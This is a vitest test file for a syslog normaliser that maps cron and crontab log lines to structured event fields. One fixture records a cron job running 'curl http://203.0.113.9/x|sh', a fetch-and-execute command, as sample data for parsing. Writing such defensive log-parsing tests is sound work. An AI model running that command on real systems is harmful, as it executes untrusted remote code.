import { expect, test } from 'vitest';
import { normalised, pick } from '../normalised.suite.ts';

test.each<[program: string, message: string, expected: Record<string, unknown>]>([
  [
    'CRON[901]',
    '(root) CMD (   cd / && run-parts --report /etc/cron.hourly)',
    {
      'event.category': ['process'],
      'event.action': 'cron_command',
      'event.outcome': 'success',
      'user.name': 'root',
      'process.command_line': 'cd / && run-parts --report /etc/cron.hourly',
      'process.name': 'cron',
      'process.pid': 901,
    },
  ],
  [
    'crond[901]',
    '(web) CMD (curl http://203.0.113.9/x|sh)',
    { 'user.name': 'web', 'process.command_line': 'curl http://203.0.113.9/x|sh', 'process.name': 'crond' },
  ],
  [
    'crontab[902]',
    '(eve) REPLACE (eve)',
    {
      'event.category': ['configuration'],
      'event.type': ['change'],
      'event.action': 'cron_replace',
      'user.name': 'eve',
      'user.target.name': 'eve',
    },
  ],
  [
    'crontab[902]',
    '(root) BEGIN EDIT (eve)',
    {
      'event.action': 'cron_begin_edit',
      'event.type': ['info'],
      'user.name': 'root',
      'user.target.name': 'eve',
    },
  ],
  ['crontab[902]', '(eve) LIST (eve)', { 'event.action': 'cron_list', 'event.type': ['access'] }],
  ['crontab[902]', '(root) DELETE (eve)', { 'event.action': 'cron_delete', 'user.target.name': 'eve' }],
  ['cron[903]', '(eve) RELOAD (crontabs/eve)', { 'event.action': 'cron_reload', 'user.target.name': 'eve' }],
  [
    'CRON[901]',
    'pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)',
    { 'event.action': 'session_opened', 'user.name': 'root' },
  ],
  [
    'cron[903]',
    '(CRON) info (No MTA installed, discarding output)',
    { 'event.action': undefined, user: undefined },
  ],
])('%s: %s', (program, message, expected) => {
  const event = normalised(`<78>Nov 21 09:08:01 web1 ${program}: ${message}`);
  expect(event.event.dataset).toBe('linux.cron');
  expect(pick(event, expected)).toEqual(expected);
});
